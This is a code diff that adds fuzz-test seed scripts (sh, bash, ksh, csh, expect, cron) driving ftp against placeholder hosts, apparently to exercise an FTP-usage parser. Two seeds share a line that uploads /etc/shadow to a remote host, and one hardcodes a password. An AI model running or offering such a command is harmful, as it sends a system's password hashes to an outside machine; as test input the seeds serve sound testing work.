@@ -91,3 +91,18 @@ for target, programs in (("basic", BASIC), ("jscript", JSCRIPT)):
 for target, texts in (("lftp", LFTP), ("winscp", WINSCP)):
     for number, content in enumerate(texts):
         seed(target, f"{number}", content)
+# Shell scripts: the first byte chooses the name (see the target).
+BODY = "user bob pw\nbinary\nput /etc/shadow sh\nbye\n"
+SHELL = [
+    (0, "#!/bin/sh\nHOST=192.0.2.50\nftp -n $HOST <<EOF\n" + BODY + "EOF\n"),
+    (0, "#!/bin/bash\nup() {\n\tlocal f=${1##*/}\n\tcat <<-'END' > s\n\topen h.example\n\tEND\n\techo \"put $f\" >> s\n}\nfor f in a/b c; do up \"$f\"; done\nftp -n < s\n"),
+    (0, "if [ \"$1\" = prod ]; then H=192.0.2.1; else H=192.0.2.2; fi\n(echo user a b; echo put $2) | ftp -n $H\n"),
+    (0, "#ftp -n 192.0.2.3 <<EOF\n#user a b\n#EOF\n: <<'X'\nftp -n h <<Y\nbye\nY\nX\nexit\nftp -n h <<< bye\n"),
+    (1, "#!/bin/ksh\nftp -n |&\nprint -p open 192.0.2.4\nprint -p user a b\nexec 4>&p\nprint -u4 bye\n"),
+    (2, "#!/bin/csh\nset host = 192.0.2.5\nif ($#argv < 1) exit 1\nftp -n $host << EOF\n" + BODY + "EOF\n"),
+    (3, "#!/usr/bin/expect -f\nset pw s3cret\nspawn ftp 192.0.2.6\nexpect \"Name\" { send \"bob\\r\" }\nexpect word:\nsend \"$pw\\r\"\ninteract\n"),
+    (4, "How to:\n\n    ftp -n 192.0.2.7 <<EOF\n    user a b\n    EOF\n"),
+    (5, "5 0 * * * root ftp -n 192.0.2.8%user a b%bye\n"),
+]
+for number, (choice, text) in enumerate(SHELL):
+    seed("shell", f"{number}", bytes([choice]) + text.encode())
